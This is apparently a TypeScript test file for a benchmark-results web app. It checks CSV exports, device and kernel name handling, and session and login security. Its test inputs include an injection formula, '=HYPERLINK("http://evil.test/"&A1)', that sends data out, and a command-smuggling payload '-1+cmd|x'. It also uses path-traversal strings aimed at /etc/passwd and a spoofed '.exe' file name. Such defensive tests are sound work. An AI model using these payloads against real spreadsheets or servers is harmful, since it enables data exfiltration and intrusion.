import { deviceKey } from '@tilemark/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SESSION_COOKIE } from '@/ui/site';
import {
  attach,
  environment,
  identity,
} from '../../../../../packages/core/src/server/store/fixtures.test-helper';
import { call, openTestGrid, type TestGrid } from '../grid.test-helper';
import { handle } from './app';

let grid: TestGrid;
let admin: string;
beforeAll(async () => {
  grid = await openTestGrid();
  admin = await grid.token('admin');
  await attach(grid.store);
});
afterAll(() => grid.close());

const FORMULA = '=HYPERLINK("http://evil.test/"&A1)';

/** A bench file of a device that is called `name`, whose only run was skipped because of `why`. */
function fileOf(name: string, why: string) {
  const where = { ...environment('One'), device: { ...identity('One'), device: name } };
  return {
    version: 1,
    environment: where,
    results: [
      {
        runId: 'a',
        resultId: null,
        variant: { kernel: 'matmul/naive', tunables: {} },
        address: FORMULA,
        problem: { op: 'matmul', shape: { m: 8, n: 8, k: 8 }, dtype: 'f32' },
        device: { key: deviceKey(where.device), name, class: 'gpu' },
        profile: 'default',
        policy: 'smoke',
        outcome: { kind: 'skipped', why },
        rate: null,
      },
    ],
  };
}

/** The cells of the only line of a CSV table without a line break in a cell. */
const cellsOf = (csv: string) => (csv.split('\r\n')[1] ?? '').match(/"(?:[^"]|"")*"|[^,]+/g) ?? [];

describe('names that people choose', () => {
  it.each([FORMULA, '+1', '-1+cmd|x', '@SUM(A1)', '\t=1', ' =1'])(
    'reach no spreadsheet as the formula %j',
    async (text) => {
      const token = await grid.token('member', text);
      const made = await call('POST /results/import', {
        token,
        body: fileOf(text, text),
      });
      expect(made.status).toBe(201);
      const { id } = await made.json();
      const csv = await call('GET /sweeps/{id}/results', { query: '?format=csv', params: { id } });
      expect(csv.headers.get('content-type')).toContain('text/csv');
      expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+"$/);
      const cells = cellsOf(await csv.text());
      expect(cells.length).toBeGreaterThan(10);
      for (const cell of cells) expect(cell).not.toMatch(/^"?\s*[=+@-]/);
    },
  );

  it.each([
    '../../../etc/passwd',
    '..\\..\\x',
    '/dev/null',
    'a/b',
    '%2e%2e%2f',
    '.',
    '\u202ecod.exe',
  ])('of a device make no path out of %j', async (name) => {
    const { device } = fileOf(name, 'x').environment;
    expect(deviceKey(device)).toMatch(/^[a-z0-9_-]+$/);
    const body = fileOf(name, 'x');
    expect((await call('POST /results/import', { token: admin, body })).status).toBe(201);
  });

  it.each(['matmul/../../etc/passwd', '__proto__', 'constructor', 'matmul/toString', ''])(
    'of a kernel are refused where it is %j',
    async (kernel) => {
      const body = { name: 'a', spec: { cases: [{ kernel, shapes: [{ m: 8, n: 8, k: 8 }] }] } };
      const response = await call('POST /sweeps', { token: admin, body });
      expect(response.status).toBe(400);
      expect((await response.json()).field).toMatch(/^(spec\.)?cases\[0\]\.kernel$/);
    },
  );
});

describe('a session', () => {
  const logIn = (secret: string, headers: Record<string, string> = {}) =>
    handle(new Request(`http://grid.test/login/token?token=${secret}`, { headers }));
  const sealOf = (response: Response) =>
    new RegExp(`${SESSION_COOKIE}=([^;]*)`).exec(response.headers.get('set-cookie') ?? '')?.[1];
  const makeToken = (cookie: string) =>
    call('POST /tokens', {
      body: { name: 'a', role: 'admin' },
      headers: { cookie, 'sec-fetch-site': 'same-origin' },
    });

  it('that somebody planted before the login opens nothing after it', async () => {
    const planted = `${SESSION_COOKIE}=planted`;
    const seal = sealOf(await logIn(admin, { cookie: planted }));
    expect(seal).toBeTruthy();
    expect(seal).not.toBe('planted');
    expect((await makeToken(planted)).status).toBe(401);
    expect((await makeToken(`${SESSION_COOKIE}=${seal}`)).status).toBe(201);
  });

  it('is sealed again at each login, and contains no secret that can be read', async () => {
    const [one, two] = [sealOf(await logIn(admin)), sealOf(await logIn(admin))];
    expect(one).not.toBe(two);
    expect(Buffer.from(one ?? '', 'base64').toString()).not.toContain(admin);
    expect(one).not.toContain(admin);
  });

  it('is over once it was logged out, also for a copy of its cookie, and no other is', async () => {
    const [one, two] = [sealOf(await logIn(admin)), sealOf(await logIn(admin))];
    const cookieOf = (seal: string | undefined) => `${SESSION_COOKIE}=${seal}`;
    const headers = { cookie: cookieOf(one), 'sec-fetch-site': 'same-origin' };
    await handle(new Request('http://grid.test/logout', { method: 'POST', headers }));
    expect((await makeToken(cookieOf(one))).status).toBe(401);
    expect((await makeToken(cookieOf(two))).status).toBe(201);
    // A login ends the session that it takes the place of.
    const three = sealOf(await logIn(admin, { cookie: cookieOf(two) }));
    expect((await makeToken(cookieOf(two))).status).toBe(401);
    expect((await makeToken(cookieOf(three))).status).toBe(201);
  });

  it.each(['token', 'code'] as const)(
    'is not replaced by a link with a %s unless its reader says so',
    async (means) => {
      const { id, secret } = await grid.store.tokens.create({
        name: 'Eve',
        role: 'member',
        expiresAt: null,
      });
      const theirs = means === 'token' ? secret : await grid.store.tokens.loginCode(id);
      const own = `${SESSION_COOKIE}=${sealOf(await logIn(admin))}`;
      const follow = (headers: Record<string, string>) =>
        handle(new Request(`http://grid.test/login/token?${means}=${theirs}`, { headers }));
      const asked = [
        { cookie: own },
        { cookie: own, 'sec-fetch-site': 'none' },
        { cookie: own, 'sec-fetch-site': 'cross-site' },
        { 'sec-fetch-site': 'cross-site' },
        { 'sec-fetch-site': 'same-site' },
      ];
      for (const headers of asked) {
        const response = await follow(headers);
        expect(response.headers.get('set-cookie')).toBeNull();
        const location = response.headers.get('location') ?? '';
        expect(location).toMatch(/^\/login\?/);
        expect(new URLSearchParams(location.slice(7)).get('confirm')).toBe('1');
      }
      expect((await makeToken(own)).status).toBe(201);
      const confirm = (headers: Record<string, string>) => {
        const body = new URLSearchParams({ [means]: theirs, next: '/workers' });
        return handle(
          new Request('http://grid.test/login/token', { method: 'POST', headers, body }),
        );
      };
      expect((await confirm({ cookie: own, 'sec-fetch-site': 'cross-site' })).status).toBe(403);
      const done = await confirm({ cookie: own, 'sec-fetch-site': 'same-origin' });
      expect(done.headers.get('location')).toBe('/workers');
      expect(sealOf(done)).toBeTruthy();
      expect((await makeToken(own)).status).toBe(401);
    },
  );

  it('cannot be altered', async () => {
    const seal = sealOf(await logIn(await grid.token('member'))) ?? '';
    for (let at = 10; at < seal.length; at += 17) {
      const altered = `${seal.slice(0, at)}${seal[at] === 'A' ? 'B' : 'A'}${seal.slice(at + 1)}`;
      expect((await makeToken(`${SESSION_COOKIE}=${altered}`)).status).toBe(401);
    }
  });

  it.each([
    ['the login form', '/login/token'],
    ['the logout', '/logout'],
  ])('%s takes no post from another site', async (_what, path) => {
    for (const headers of [
      { 'sec-fetch-site': 'cross-site' },
      { origin: 'http://evil.test' },
      {},
    ]) {
      const body = new URLSearchParams({ token: admin });
      const request = new Request(`http://grid.test${path}`, { method: 'POST', headers, body });
      const response = await handle(request);
      expect(response.status).toBe(403);
      expect(response.headers.get('set-cookie')).toBeNull();
    }
  });

  it('is not opened by guesses of a token, however near', async () => {
    const near = [
      admin.slice(0, -1),
      `${admin}x`,
      admin.toUpperCase(),
      admin.replace('tm_admin_', 'tm_member_'),
      `tm_admin_${'a'.repeat(43)}`,
      `${admin}%00`,
    ];
    for (const guess of near) {
      const response = await logIn(guess);
      expect(response.headers.get('location')).toBe('/login?failed=token');
      expect(response.headers.get('set-cookie')).toBeNull();
    }
  });
});
